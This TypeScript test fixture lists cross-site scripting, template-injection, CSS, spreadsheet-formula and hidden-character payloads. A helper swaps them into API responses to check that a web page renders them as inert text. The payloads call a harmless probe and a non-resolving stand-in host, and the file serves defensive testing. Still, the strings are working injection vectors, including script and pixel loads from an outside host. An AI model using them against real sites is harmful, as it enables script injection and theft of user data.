/**
 * Texts that would run a script, load something or break out of their context if they were not treated as plain text.
 * A payload that runs calls `window.__ran` with its number; elements made from one have the attribute `data-probe`.
 */

/** RUN stands for a call of `window.__ran`, PROBE for the attribute, HOST for a host that must not be contacted. */
const patterns: readonly string[] = [
  // Scripts.
  '<script PROBE>RUN</script>',
  '"><script PROBE>RUN</script>',
  "'><script PROBE>RUN</script>",
  '</script><script PROBE>RUN</script>',
  '</title><script PROBE>RUN</script>',
  '</textarea><script PROBE>RUN</script>',
  '</style><script PROBE>RUN</script>',
  '--><script PROBE>RUN</script><!--',
  ']]><script PROBE>RUN</script>',
  '<ScRiPt PROBE>RUN</sCrIpT>',
  '<script/PROBE>RUN</script>',
  '<script PROBE src=//HOST/x.js></script>',
  '<script PROBE type=module src=https://HOST/x.mjs></script>',
  '<<script PROBE>RUN//<</script>',
  '\u003cscript PROBE\u003eRUN\u003c/script\u003e',
  '&lt;script PROBE&gt;RUN&lt;/script&gt;',
  '%3Cscript PROBE%3ERUN%3C/script%3E',
  '\uff1cscript PROBE\uff1eRUN\uff1c/script\uff1e',
  // Handlers of events.
  '<img PROBE src=x onerror=RUN>',
  '<img PROBE src=x onerror="RUN">',
  '"><img PROBE src=x onerror=RUN>',
  '" autofocus onfocus=RUN x="',
  "' onmouseover=RUN x='",
  '<body PROBE onload=RUN>',
  '<input PROBE autofocus onfocus=RUN>',
  '<select PROBE autofocus onfocus=RUN>',
  '<details PROBE open ontoggle=RUN>',
  '<video PROBE><source onerror=RUN></video>',
  '<audio PROBE src=x onerror=RUN>',
  '<marquee PROBE onstart=RUN>',
  '<iframe PROBE onload=RUN></iframe>',
  '<object PROBE data=x onerror=RUN></object>',
  '<style PROBE onload=RUN></style>',
  '<div PROBE style="animation:x 1s" onanimationstart=RUN>',
  '<a PROBE id=x tabindex=1 onfocus=RUN></a>',
  '<button PROBE popovertarget=x>x</button><div PROBE popover id=x onbeforetoggle=RUN>',
  '<img PROBE src=x:alert(1) onerror=eval("RUN")>',
  '<img PROBE/src/onerror=RUN>',
  '<image PROBE src=x onerror=RUN>',
  // SVG and MathML.
  '<svg PROBE onload=RUN>',
  '<svg PROBE><script>RUN</script></svg>',
  '<svg PROBE><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg PROBE><set attributeName=href to="javascript:RUN"/><a><text>x</text></a></svg>',
  '<svg PROBE><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg PROBE><foreignObject><iframe onload=RUN></iframe></foreignObject></svg>',
  '<svg PROBE><use href="data:image/svg+xml,<svg id=x onload=RUN></svg>#x"/></svg>',
  '<math PROBE href="javascript:RUN">x</math>',
  // Addresses.
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  'javascript://%0aRUN',
  'javascript&colon;RUN',
  'vbscript:RUN',
  'data:text/html,<script PROBE>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==',
  '//HOST/x',
  'https://HOST/x',
  '\\\\HOST\\x',
  '<a PROBE href="javascript:RUN">press</a>',
  '<a PROBE href=" &#14; javascript:RUN">press</a>',
  '<form PROBE action="javascript:RUN"><input type=submit></form>',
  '<iframe PROBE src="javascript:RUN"></iframe>',
  '<iframe PROBE srcdoc="<script>parent.RUN</script>"></iframe>',
  '<embed PROBE src="javascript:RUN">',
  '<object PROBE data="javascript:RUN"></object>',
  '<meta PROBE http-equiv=refresh content="0;url=javascript:RUN">',
  '<base PROBE href="https://HOST/">',
  '<link PROBE rel=stylesheet href="https://HOST/x.css">',
  '<img PROBE src="https://HOST/pixel.png">',
  '<form PROBE action="https://HOST/"><button autofocus>x</button></form>',
  // Templates and expressions.
  '{{constructor.constructor("RUN")()}}',
  "{{$on.constructor('RUN')()}}",
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  '{%raw%}RUN{%endraw%}',
  '=form.x[RUN]',
  '__proto__',
  'constructor',
  '{"__proto__":{"x":"RUN"},"dangerouslySetInnerHTML":{"__html":"<img PROBE src=x onerror=RUN>"}}',
  // Markdown and letters.
  '[press](javascript:RUN)',
  '![x](https://HOST/pixel.png)',
  '![x"onerror="RUN](x)',
  '<https://HOST/x>',
  '[x]: javascript:RUN',
  // Mutations while HTML is parsed again.
  '<noscript><p title="</noscript><img PROBE src=x onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img PROBE title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img PROBE onerror=RUN src>">',
  '<template><img PROBE src=x onerror=RUN></template>',
  '<svg></p><style><a id="</style><img PROBE src=1 onerror=RUN>">',
  '<xmp><p title="</xmp><svg PROBE onload=RUN>">',
  // Styles.
  '</style><style PROBE>*{background:url(https://HOST/x)}</style>',
  'red;background:url(https://HOST/x)',
  'url(javascript:RUN)',
  '};@import "https://HOST/x.css";{',
  'expression(RUN)',
  // Spreadsheets.
  '=HYPERLINK("https://HOST/x","press")',
  "=cmd|' /C calc'!A1",
  '@SUM(1+1)*cmd',
  // Directions and characters that hide others.
  '\u202Egnp.exe<img PROBE src=x onerror=RUN>',
  '\u2066<svg PROBE onload=RUN>\u2069',
  '\u200B<script PROBE>RUN</script>',
  '\uFEFF\u2028<img PROBE src=x onerror=RUN>\u2029',
]

/** A name that no resolver knows. */
export const FOREIGN_HOST = 'foreign.invalid'

export const payloads: readonly string[] = patterns.map((pattern, number) =>
  pattern
    .replaceAll('PROBE', 'data-probe=1')
    .replaceAll('RUN', `window.__ran(${number})`)
    .replaceAll('HOST', FOREIGN_HOST),
)

/** Keys whose values control the page and are no texts for people. */
const STRUCTURE =
  /^(id|.*_?id|key|pk|slug|screen|tok|uuid|v|gitversion|environment|capabilities|erpType|flags|state|route|table|fmt|apiid|Status|StatusClass|suppliedKey|reason|email)$/i

/** Addresses that the page turns into links. */
const ADDRESS = /href|link|url|push/i

/** The same response with a payload in place of each text, and in every other row also of numbers and dates. */
export function poisoned(answer: unknown, next: () => string): unknown {
  const inside = (value: unknown, key: string, isOdd: boolean): unknown => {
    if (STRUCTURE.test(key)) return value
    if (Array.isArray(value)) return value.map((each, index) => inside(each, `${key} `, index % 2 === 1))
    if (typeof value === 'object' && value !== null) {
      return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, inside(each, name, isOdd)]))
    }
    if (typeof value === 'number') return isOdd ? next() : value
    if (typeof value !== 'string' || (/^\d{4}-\d\d-\d\d/.test(value) && !isOdd)) return value
    return ADDRESS.test(key) ? `javascript:window.__ran(${-1})` : next()
  }
  return inside(answer, '', false)
}
